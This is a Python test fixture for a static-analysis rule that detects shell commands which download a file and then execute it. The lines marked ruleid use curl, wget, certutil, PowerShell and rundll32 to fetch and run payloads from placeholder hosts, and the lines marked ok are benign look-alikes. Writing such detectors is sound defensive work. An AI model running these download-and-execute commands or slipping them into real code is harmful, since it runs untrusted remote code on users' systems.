"""Fixture for py-shell-download-run.

RULEID: os.system of curl -o then ./file; subprocess shell=True of certutil then the .exe;
  wget then bash of the script via ["sh", "-c", ...]; powershell Invoke-WebRequest then Start-Process;
  os.popen of curl then rundll32 built with an f-string.
OK: curl piped into tar; curl saving JSON then python reading it; an argument list without a shell;
  a download command only printed.
"""
import os
import subprocess

# ruleid: py-shell-download-run
os.system("curl -fsSL https://cdn.example.net/x -o /tmp/x && chmod +x /tmp/x && ./x")
# ruleid: py-shell-download-run
subprocess.run("certutil -urlcache -f http://198.51.100.4/u.exe u.exe & u.exe", shell=True)
# ruleid: py-shell-download-run
subprocess.Popen(["sh", "-c", "wget -qO /tmp/i.sh https://dl.example.org/i.sh; bash /tmp/i.sh"])
# ruleid: py-shell-download-run
subprocess.call(["powershell", "-Command", "iwr https://x.example.com/p.exe -OutFile p.exe; Start-Process p.exe"])
HOST = "https://updates.example.io"
# ruleid: py-shell-download-run
os.popen(f"curl {HOST}/d.dll -o d.dll && rundll32 d.dll,Start")

# ok: py-shell-download-run
os.system("curl -fsSL https://example.org/t-1.2.tgz | tar -xz -C vendor")
# ok: py-shell-download-run
subprocess.run("curl -s https://api.example.org/v1/latest -o latest.json && python read.py latest.json", shell=True)
# ok: py-shell-download-run
subprocess.run(["curl", "-fsSLo", "tool.exe", "https://example.org/tool.exe"], check=True)
# ok: py-shell-download-run
print("curl -fsSL https://example.org/install.sh -o install.sh && sh install.sh")
